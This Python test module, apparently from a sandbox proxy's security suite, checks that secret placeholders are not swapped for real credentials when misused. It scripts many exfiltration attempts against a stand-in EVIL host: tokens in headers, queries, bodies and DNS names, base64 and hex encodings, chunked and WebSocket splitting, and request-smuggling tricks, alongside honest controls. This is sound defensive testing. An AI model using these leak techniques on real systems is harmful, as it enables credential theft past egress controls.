"""S3: a placeholder is sent where its value does not belong: no value follows it, and the run is tainted.

Each request but its placeholder is allowed. What is a placeholder's other spelling may go out where nobody recognises
it: that is no secret, and the tables of S5 say what is recognised.

Longer than 400 lines: most of it is the table of misuses, which reads better in one place.
"""

import base64
import json
from collections.abc import Callable

from tests.attacks import keeping, trail
from tests.attacks.arena import Arena
from tests.attacks.attack import Attack, cases
from tests.attacks.crossing import EVIL, GOOD, entries
from tests.attacks.keeping import MISUSE, NETWORK, SECRETS, misuse
from tests.lab import Lab

BAD, DENIED = "bad-request", "egress-denied"


def sent(name: str, arguments: str, *, code: str = MISUSE) -> Attack:
    """One request by TLS, as `whole` makes it."""
    return misuse(name, f"attempt(lambda: https(whole({arguments})))", code=code)


@cases(
    misuse("another-host", f"attempt(lambda: https(whole(host={EVIL!r}, more=BEARER), EVIL))"),
    misuse("another-port", f"attempt(lambda: https(whole(host={GOOD + ':4443'!r}, more=BEARER), port=4443))"),
    misuse("plain-http", "attempt(lambda: http(whole(more=BEARER)))"),
    misuse(
        "plain-http-by-the-proxy",
        "attempt(lambda: tell(proxy(GOOD, 80), whole(path='http://' + GOOD + '/ok/' + MARK, more=BEARER)))",
    ),
    misuse(
        "plain-http-in-a-tunnel", "attempt(lambda: tell(connect(GOOD.encode() + b':80', GOOD, 80), whole(more=BEARER)))"
    ),
    sent("another-path", "path='/other/' + MARK, more=BEARER"),
    sent("path-that-begins-alike", "path='/okay/' + MARK, more=BEARER"),
    sent("path-in-capitals", "path='/OK/' + MARK, more=BEARER"),
    sent("path-beneath-another", "path='/x/ok/' + MARK, more=BEARER"),
    sent("path-in-the-query", "path='/?/ok/' + MARK, more=BEARER"),
    sent("path-left-again", "path='/ok/../other/' + MARK, more=BEARER", code=BAD),
    sent("path-left-encoded", "path='/ok/%2e%2e/other/' + MARK, more=BEARER", code=BAD),
    sent("path-left-by-a-parameter", "path='/ok/..;/other/' + MARK, more=BEARER", code=BAD),
    sent("slash-encoded", "path='/other%2f..%2fok/' + MARK, more=BEARER", code=BAD),
    sent("another-method", "'DELETE', more=BEARER"),
    sent("another-method-with-a-body", "'PUT', more=BEARER, body=b'x'"),
    sent("method-by-a-header", "'POST', more=BEARER + 'X-HTTP-Method-Override: DELETE\\r\\n', body=b''", code=BAD),
    sent("method-of-the-other-letter-case", "'get', more=BEARER", code=BAD),
)
def test_where(attack: Attack, carry_out_kept: Callable[[Attack], None]) -> None:
    carry_out_kept(attack)


@cases(
    sent("another-header", "more='X-Api-Key: ' + TOKEN + '\\r\\n'"),
    sent("cookie", "more='Cookie: a=b; session=' + TOKEN + '\\r\\n'"),
    sent("user-agent", "more='User-Agent: x/' + TOKEN + '\\r\\n'"),
    sent("referer", "more='Referer: https://x/?' + TOKEN + '\\r\\n'"),
    sent("forwarded", "more='X-Forwarded-For: ' + TOKEN + '\\r\\n'"),
    sent("both-in-place-and-elsewhere", "more=BEARER + 'X-Copy: ' + TOKEN + '\\r\\n'"),
    sent("name-of-a-header", "more='X-' + TOKEN + ': 1\\r\\n'"),
    sent("header-in-base64", "more='X-Copy: ' + mixed(TOKEN) + '\\r\\n'"),
    sent("header-in-base64-shifted", "more='X-Copy: ' + mixed('x' + TOKEN) + '\\r\\n'"),
    sent("basic-of-another-header", "more='X-Basic: Basic ' + mixed('user:' + TOKEN) + '\\r\\n'"),
    sent("last-part-of-the-path", "path='/ok/' + MARK + '/' + TOKEN"),
    sent("query", "path='/ok/' + MARK + '?token=' + TOKEN"),
    sent("name-in-the-query", "path='/ok/' + MARK + '?' + TOKEN + '=1'"),
    sent("query-encoded", "path='/ok/' + MARK + '?token=' + ''.join('%%%02X' % ord(c) for c in TOKEN)"),
    sent("query-encoded-twice", "path='/ok/' + MARK + '?t=' + ''.join('%%25%02X' % ord(c) for c in TOKEN)"),
    sent("query-in-base64", "path='/ok/' + MARK + '?t=' + mixed(TOKEN).rstrip('=')"),
    sent("query-in-hexadecimal", "path='/ok/' + MARK + '?t=' + TOKEN.encode().hex()"),
    sent("both-in-place-and-in-the-query", "path='/ok/' + MARK + '?token=' + TOKEN, more=BEARER"),
    sent("second-secret-in-place", "more='Authorization: Bearer ' + OTHER + '\\r\\n'"),
    sent("both-secrets-in-place", "more='Authorization: Bearer ' + TOKEN + OTHER + '\\r\\n'"),
    sent("header-twice", "more=BEARER + BEARER.replace(TOKEN, OTHER)"),
)
def test_in_which_part(attack: Attack, carry_out_kept: Callable[[Attack], None]) -> None:
    carry_out_kept(attack)


def swapped() -> Attack:
    """Each secret where the other one belongs."""
    return misuse(
        "swapped",
        f"""
attempt(lambda: https(whole(more='Authorization: Bearer ' + OTHER + '\\r\\n')))
attempt(lambda: https(whole(host={EVIL!r}, more=BEARER), EVIL))
""",
    )


def with_body(name: str, expression: str, *, more: str = "''", code: str = MISUSE) -> Attack:
    """A body in which `expression` stands, which also gives the mark: the head may be on its way before."""
    step = f"https(whole('POST', '/seen/ok', more={more}, body={expression}))"
    return misuse(name, f"attempt(lambda: {step})", evidence=keeping.out_in_a_body, code=code)


def in_chunks(name: str, parts: str, *, more: str = "''") -> Attack:
    """A chunked body of these parts, after the mark."""
    head = "whole('POST', '/seen/ok', more='Transfer-Encoding: chunked\\r\\n')"
    step = f"https({head} + chunks(MARK.encode(), {parts}, more={more}))"
    return misuse(name, f"attempt(lambda: {step})", evidence=keeping.out_in_a_body)


@cases(
    swapped(),
    with_body("form", "('a=' + MARK + '&token=' + TOKEN).encode()"),
    with_body("json", "json.dumps({'a': MARK, 'b': ['x', {'token': TOKEN}]}).encode()"),
    with_body(
        "json-escaped",
        """('{"a":"' + MARK + '","b":"' + ''.join('\\\\u%04x' % ord(c) for c in TOKEN) + '"}').encode()""",
    ),
    with_body("binary", "bytes(99) + MARK.encode() + bytes(999) + TOKEN.encode() + bytes(99)"),
    with_body("base64", "(MARK + ' ' + mixed(TOKEN)).encode()"),
    with_body("base64-at-another-byte", "(MARK + ' ' + mixed('xy' + TOKEN)).encode()"),
    with_body("hexadecimal", "(MARK + ' ' + TOKEN.encode().hex()).encode()"),
    with_body("at-the-end-of-a-large-one", "MARK.encode() + bytes(300000) + TOKEN.encode()"),
    with_body("beside-the-rightful-header", "(MARK + TOKEN).encode()", more="BEARER"),
    with_body("expecting-to-continue", "(MARK + TOKEN).encode()", more="'Expect: 100-continue\\r\\n'"),
    in_chunks("chunked", "TOKEN.encode()"),
    in_chunks("split-over-chunks", "TOKEN[:9].encode(), TOKEN[9:].encode()"),
    in_chunks("a-byte-in-each-chunk", "*(c.encode() for c in TOKEN)"),
    in_chunks("trailer", "b'x'", more="'X-Copy: ' + TOKEN + '\\r\\n'"),
)
def test_in_which_body(attack: Attack, carry_out_kept: Callable[[Attack], None]) -> None:
    carry_out_kept(attack)


FIRST = "first = whole(path='/ok/first', more=BEARER, last=False)\n"


@cases(
    misuse(
        "second-of-two-requests",
        f"{FIRST}attempt(lambda: https(first + whole(path='/other/' + MARK, more=BEARER)))",
    ),
    misuse(
        "second-to-another-host",
        f"{FIRST}attempt(lambda: https(first + whole(host={EVIL!r}, more=BEARER)))",
        code="mismatch",
    ),
    misuse(
        "after-a-redirect",
        f"""
answer = https(whole(path='/redirect/{EVIL}/' + MARK))
place = answer.replace(b"Location", b"location").partition(b"location: https://")[2].partition(b"\\r\\n")[0].decode()
host, _, path = place.partition("/")
attempt(lambda: https(whole(path="/" + path, host=host, more=BEARER), host))
""",
        evidence=keeping.out_to_the_other,
    ),
    misuse(
        "hidden-in-a-body",
        """
inner = whole(path='/ok/' + MARK, more=BEARER)
outer = whole('POST', '/seen/ok', more='Transfer-Encoding: chunked\\r\\n', body=b'0\\r\\n\\r\\n' + inner, last=False)
attempt(lambda: https(outer))
""",
        code=BAD,
    ),
    misuse(
        "hidden-behind-a-length",
        """
inner = whole(path='/other/' + MARK, more=BEARER)
attempt(lambda: https(whole('POST', '/ok/x', more='Content-Length: 0\\r\\n', body=inner, last=False)))
""",
        code=BAD,
    ),
    misuse(
        "folded-header",
        "attempt(lambda: https(whole(more='X-One: a\\r\\n Authorization: Bearer ' + TOKEN + '\\r\\n')))",
        code=BAD,
    ),
    misuse(
        "bare-line-feed",
        "attempt(lambda: https(whole(more='X-One: a\\nX-Copy: ' + TOKEN + '\\r\\n')))",
        code=BAD,
    ),
    misuse(
        "space-before-the-colon",
        "attempt(lambda: https(whole(more='Authorization : Bearer ' + TOKEN + '\\r\\n')))",
        code=BAD,
    ),
    misuse(
        "upgrade-to-a-websocket",
        """
upgrade = "Connection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\n"
upgrade += "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n"
def upgraded():
    link = secure(direct(GOOD, 443), GOOD)
    link.sendall(f"GET /ws?{MARK}{TOKEN} HTTP/1.1\\r\\nHost: {GOOD}\\r\\n{upgrade}\\r\\n".encode())
    link.recv(4096)
    return tell(link, b"\\x88\\x80\\0\\0\\0\\0\\r\\n\\r\\n")  # which ends it, upgraded or not
attempt(upgraded)
""",
    ),
    misuse(
        "http2-without-tls",
        """
import subprocess
words = ["curl", "-sS", "-m40", "--noproxy", "*", "--http2-prior-knowledge", "-H", BEARER.strip()]
words.append(f"http://{GOOD}/ok/{MARK}")
attempt(lambda: subprocess.run(words, capture_output=True).stdout)
""",
        code=BAD,
    ),
)
def test_between_the_requests(attack: Attack, carry_out_kept: Callable[[Attack], None]) -> None:
    carry_out_kept(attack)


FIELDS = (
    NETWORK
    + f"""
[secrets.service]
source = {{ env = "SERVICE_TOKEN" }}
inject = [{{ host = "{GOOD}", query = "key", paths = ["/ok/**"] }}, {{ host = "{GOOD}", body = "token" }}]
variables = ["SERVICE_TOKEN"]
"""
)
AS_JSON = "'Content-Type: application/json\\r\\n'"
AS_FORM = "'Content-Type: application/x-www-form-urlencoded\\r\\n'"


def in_query(name: str, query: str) -> Attack:
    """A query in which the placeholder is not the value of the parameter that policy names."""
    return misuse(name, f"attempt(lambda: https(whole(path='/ok/' + MARK + {query})))", policy=FIELDS)


def in_field(name: str, text: str, kind: str = AS_JSON) -> Attack:
    """A body in which the placeholder is not the value of the field that policy names."""
    step = f"https(whole('POST', '/seen/ok', more={kind}, body=({text}).encode()))"
    return misuse(name, f"attempt(lambda: {step})", evidence=keeping.out_in_a_body, policy=FIELDS)


@cases(
    in_query("parameter-in-capitals", "'?KEY=' + TOKEN"),
    in_query("parameter-of-a-longer-name", "'?key2=' + TOKEN"),
    in_query("parameter-in-brackets", "'?key[]=' + TOKEN"),
    in_query("parameter-after-a-semicolon", "'?a=1;key=' + TOKEN"),
    in_query("parameter-within-another", "'?a=key%3D' + TOKEN"),
    in_query("parameter-and-another", "'?key=' + TOKEN + '&a=' + TOKEN"),
    in_query("parameter-as-a-name", "'?' + TOKEN + '=key'"),
    in_query("parameter-twice-marked", "'?a=?key=' + TOKEN"),
    in_field("field-within-an-object", "json.dumps({'m': MARK, 'a': {'token': TOKEN}})"),
    in_field("field-within-a-list", "json.dumps([{'token': TOKEN, 'm': MARK}])"),
    in_field("field-that-is-a-list", "json.dumps({'token': [TOKEN], 'm': MARK})"),
    in_field("field-in-capitals", "json.dumps({'Token': TOKEN, 'm': MARK})"),
    in_field("field-as-a-name", "json.dumps({TOKEN: 'token', 'm': MARK})"),
    in_field("field-twice-the-first", '\'{"m":"\' + MARK + \'","token":"\' + TOKEN + \'","token":"x"}\''),
    in_field("field-and-another", "json.dumps({'token': TOKEN, 'b': TOKEN, 'm': MARK})"),
    in_field("field-in-text-in-a-field", "json.dumps({'a': json.dumps({'token': TOKEN}), 'm': MARK})"),
    in_field("field-behind-the-end", "json.dumps({'m': MARK}) + json.dumps({'token': TOKEN})"),
    in_field("json-that-is-none", '\'{"m":"\' + MARK + \'","token":"\' + TOKEN + \'"\''),
    in_field("json-called-a-form", "json.dumps({'token': TOKEN, 'm': MARK})", AS_FORM),
    in_field("form-called-json", "'token=' + TOKEN + '&m=' + MARK"),
    in_field("json-of-no-kind", "json.dumps({'token': TOKEN, 'm': MARK})", "''"),
    in_field("form-within-another", "'m=' + MARK + '&a=token%3D' + TOKEN", AS_FORM),
    in_field("form-after-a-semicolon", "'m=' + MARK + ';token=' + TOKEN", AS_FORM),
)
def test_in_which_field(attack: Attack, carry_out_kept: Callable[[Attack], None]) -> None:
    carry_out_kept(attack)


AFTERWARDS = f"""
attempt(lambda: https(whole(path='/other', more=BEARER)))
for host, path in ((GOOD, '/old'), ({EVIL!r}, '/new')):
    attempt(lambda: https(whole(path=path, host=host), host))
"""


def test_a_tainted_run_meets_no_new_host(lab: Lab, require: Callable[..., None]) -> None:
    """The control is the same script without the first line."""
    require("bubblewrap", "overlay")
    for body, hosts in ((AFTERWARDS.replace("more=BEARER", "more=''"), {GOOD, EVIL}), (AFTERWARDS, {GOOD})):
        attack = misuse("afterwards", body)
        with Arena.open(attack.prepare, lab) as arena:
            assert arena.confined(attack).status == 0
            found = {entry["host"] for entry in entries(arena) if entry["kind"] == "http"}
            assert found == hosts


MODELS = NETWORK + SECRETS + f'[leaks]\nknown = "deny"\nmentions = ["{GOOD}"]\n'
MENTIONED = """
attempt(lambda: https(whole('POST', '/seen/ok', body=(MARK + TOKEN + OTHER).encode())))
"""


def test_a_model_may_be_told_placeholders_and_gets_no_value(lab: Lab, require: Callable[..., None]) -> None:
    """`mentions`: in a body a placeholder stays what it is; in a header, a URL or at another host it is misused."""
    require("bubblewrap", "overlay")
    attack = misuse("mentioned", MENTIONED + "print('tokens', TOKEN, OTHER)", policy=MODELS)
    with Arena.open(attack.prepare, lab) as arena:
        ran = arena.confined(attack)
        (body,) = (entry["text"] for entry in entries(arena) if entry["kind"] == "body")
        tokens = ran.output.split()[-2:]
        assert body == arena.values["mark"] + "".join(tokens) and arena.canary not in body
        assert "taint" not in {record.kind for record in trail.of_one_run(arena, ran.output)}


@cases(
    misuse("mention-in-a-header", "attempt(lambda: https(whole(more='X-A: ' + TOKEN + '\\r\\n')))", policy=MODELS),
    misuse("mention-in-a-query", "attempt(lambda: https(whole(path='/ok/' + MARK + '?' + TOKEN)))", policy=MODELS),
    misuse(
        "mention-elsewhere",
        f"attempt(lambda: https(whole('POST', '/seen/x', host={EVIL!r}, body=(MARK + TOKEN).encode()), {EVIL!r}))",
        evidence=keeping.out_in_a_body,
        policy=MODELS,
    ),
)
def test_a_model_alone_may_be_told(attack: Attack, carry_out_kept: Callable[[Attack], None]) -> None:
    carry_out_kept(attack)


HIDDEN = "name = TOKEN[:60] + '.' + MARK + '.example.com'\n"
DENIED_NAME = "other.public.example.net"


@cases(
    misuse("name-that-is-looked-up", f"{HIDDEN}attempt(lambda: socket.gethostbyname(name))", code=DENIED),
    misuse("name-of-a-tunnel", f"{HIDDEN}attempt(lambda: connect(name.encode() + b':443', name, 443))", code=DENIED),
    misuse(
        "denied-host",
        f"""
head = whole(path='http://{DENIED_NAME}/' + MARK, host='{DENIED_NAME}', more=BEARER)
attempt(lambda: tell(proxy('{DENIED_NAME}', 80), head))
""",
        code=DENIED,
    ),
)
def test_what_is_refused_anyway(attack: Attack, carry_out_kept: Callable[[Attack], None]) -> None:
    carry_out_kept(attack)


BELOW, UNSEEN = "x.public.example.net", "y.public.example.net"
WILD = (
    NETWORK.replace("allow = [", f'allow = ["*.{BELOW}:80,443", {{ host = "*.{UNSEEN}", inspection = "sni" }}, ')
    + SECRETS
)
NAMED = """
def dotted(text):
    text = text.rstrip("=").lower()
    return text[:50] + "." + text[50:] if text[50:] else text

name = {label} + "." + MARK + ".{below}"
attempt(lambda: {step})
"""
IN_A_TUNNEL = "tell(secure(connect(name.encode() + b':443', name, 443), name), whole(path='/', host=name))"


def named(name: str, step: str, *, label: str = "TOKEN", below: str = BELOW) -> Attack:
    """A host whose name holds the placeholder: whoever answers for the domain is asked for it, before any request."""
    return misuse(name, NAMED.format(label=label, below=below, step=step), policy=WILD)


@cases(
    named("name-below-a-wildcard", "http(whole(path='/', host=name), name)"),
    named("name-below-a-wildcard-by-tls", "https(whole(path='/', host=name), name)"),
    named("name-below-a-wildcard-in-a-tunnel", IN_A_TUNNEL, below=UNSEEN),
    named("name-below-a-wildcard-by-the-proxy", "get(proxy(name, 80), name, path='http://' + name + '/')"),
    named("name-in-capitals", "http(whole(path='/', host=name), name)", label="TOKEN.upper()"),
    named("name-in-two-labels", "http(whole(path='/', host=name), name)", label="(TOKEN[:9] + '.' + TOKEN[9:])"),
    named("name-in-hexadecimal", "http(whole(path='/', host=name), name)", label="dotted(TOKEN.encode().hex())"),
    named(
        "name-in-base32",
        "http(whole(path='/', host=name), name)",
        label="dotted(base64.b32encode(TOKEN.encode()).decode())",
    ),
)
def test_in_a_name_that_would_be_looked_up(attack: Attack, carry_out_kept: Callable[[Attack], None]) -> None:
    carry_out_kept(attack)


def test_other_names_below_the_wildcard_are_looked_up(lab: Lab, require: Callable[..., None]) -> None:
    require("bubblewrap", "overlay")
    attack = named("honest-name", "http(whole(path='/' + MARK, host=name), name)", label="'honest'")
    with Arena.open(attack.prepare, lab) as arena:
        ran = arena.confined(attack)
        assert any(arena.values["mark"] in entry.get("path", "") for entry in entries(arena)), ran.output
        assert "taint" not in {record.kind for record in trail.of_one_run(arena, ran.output)}


OVER_A_WEBSOCKET = """
KEY = b"mask"
def frame(payload, first=0x81, key=KEY):
    payload = payload if isinstance(payload, bytes) else payload.encode()
    masked = bytes(byte ^ key[at % 4] for at, byte in enumerate(payload))
    size = bytes((0x80 | len(payload),)) if len(payload) < 126 else b"\\xfe" + len(payload).to_bytes(2, "big")
    return bytes((first,)) + size + key + masked

def spoken(*frames):
    # What the host has read comes back from it, and that is told by a request of its own.
    link = secure(direct(GOOD, 443), GOOD)
    upgrade = "Connection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\n"
    upgrade += "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n"
    link.sendall(f"GET /ws HTTP/1.1\\r\\nHost: {GOOD}\\r\\n{upgrade}\\r\\n".encode())
    data = b""
    while b"\\r\\n\\r\\n" not in data and (part := link.recv(4096)):
        data += part
    for one in frames:
        link.sendall(one)
    echo = data.partition(b"\\r\\n\\r\\n")[2]
    while b"told" not in echo and (part := link.recv(65536)):
        echo += part
    if b"told" in echo:
        https(whole(path="/told/" + MARK))
    return echo
"""


def spoken(name: str, frames: str) -> Attack:
    """Messages over a WebSocket to the host that may get the value, in a header."""
    return misuse(name, OVER_A_WEBSOCKET + f"attempt(lambda: spoken({frames}, frame('told')))")


@cases(
    spoken("message", "frame(TOKEN)"),
    spoken("message-in-fragments", "frame(TOKEN[:9], 1), frame(TOKEN[9:], 0x80)"),
    spoken("message-around-a-ping", "frame(TOKEN[:9], 1), frame('x', 0x89), frame(TOKEN[9:], 0x80)"),
    spoken("message-of-bytes", "frame(b'\\xff' * 99 + TOKEN.encode(), 0x82)"),
    spoken("message-in-base64", "frame(mixed(TOKEN))"),
    spoken("message-without-a-mask", "frame(TOKEN, key=bytes(4))"),
    spoken("ping", "frame(TOKEN, 0x89)"),
)
def test_over_a_websocket(attack: Attack, carry_out_kept: Callable[[Attack], None]) -> None:
    carry_out_kept(attack)


def test_other_messages_are_passed_on(lab: Lab, require: Callable[..., None]) -> None:
    require("bubblewrap", "overlay")
    attack = spoken("honest-message", "frame('hello'), frame(b'x' * 3000, 0x82)")
    with Arena.open(attack.prepare, lab) as arena:
        ran = arena.confined(attack)
        assert any(arena.values["mark"] in entry.get("path", "") for entry in entries(arena)), ran.output
        assert "taint" not in {record.kind for record in trail.of_one_run(arena, ran.output)}


FOR_THE_PROXY = """
line = "Proxy-Authorization: Basic " + mixed("x:" + TOKEN) + "\\r\\n"
attempt(lambda: https(whole(more=line)))
attempt(lambda: http(whole(more=line)))
attempt(lambda: tell(proxy(GOOD, 80), whole(path=f"http://{GOOD}/ok/{MARK}", more=line)))
"""


def test_what_is_for_the_proxy_goes_no_further(lab: Lab, require: Callable[..., None]) -> None:
    """A program may give the proxy a password; no field that is about the proxy leaves."""
    require("bubblewrap", "overlay")
    attack = misuse("for-the-proxy", FOR_THE_PROXY)
    with Arena.open(attack.prepare, lab) as arena:
        assert arena.unconfined(attack).status == 0
        heads = [entry for entry in entries(arena) if entry["kind"] == "http"]
        assert all(keeping.header(entry, "proxy-authorization") for entry in heads) and len(heads) == 3
    with Arena.open(attack.prepare, lab) as arena:
        assert arena.confined(attack).status == 0
        heads = [entry for entry in entries(arena) if entry["kind"] == "http"]
        assert not any(keeping.header(entry, "proxy-authorization") for entry in heads)
        assert arena.canary not in json.dumps(heads)


FINE = """
for method, body in (("GET", None), ("POST", b"x=1")):
    attempt(lambda: https(whole(method, more=BEARER, body=body)))
attempt(lambda: https(whole(more="Authorization: Basic " + mixed("user:" + TOKEN) + "\\r\\n")))
attempt(lambda: https(whole(host=EVIL, path="/" + MARK, more="Authorization: token " + OTHER + "\\r\\n"), EVIL))
print(TOKEN, OTHER)
"""


def test_where_they_belong_the_values_arrive(lab: Lab, require: Callable[..., None]) -> None:
    """The control of all of these: with the same rules, an honest client works, and nothing is tainted."""
    require("bubblewrap", "overlay")
    honest = misuse("honest", FINE)
    with Arena.open(honest.prepare, lab) as arena:
        ran = arena.confined(honest)
        assert arena.canary not in ran.output and arena.values["other"] not in ran.output
        heads = [keeping.header(entry, "authorization") for entry in entries(arena) if entry["kind"] == "http"]
        mixed = base64.b64encode(f"user:{arena.canary}".encode()).decode()
        assert heads == [
            f"Bearer {arena.canary}",
            f"Bearer {arena.canary}",
            f"Basic {mixed}",
            f"token {arena.values['other']}",
        ]
        records = trail.of_one_run(arena, ran.output)
        assert not [record for record in records if record.kind in ("taint", "denial")]
        injected = [record.fields for record in records if (record.kind, record.code) == ("secret", "injected")]
        assert injected and arena.canary not in json.dumps(injected)
        placeholders = ran.output.split()[-2:]
        assert [len(one) for one in placeholders] == [len(arena.canary), len(arena.values["other"])]
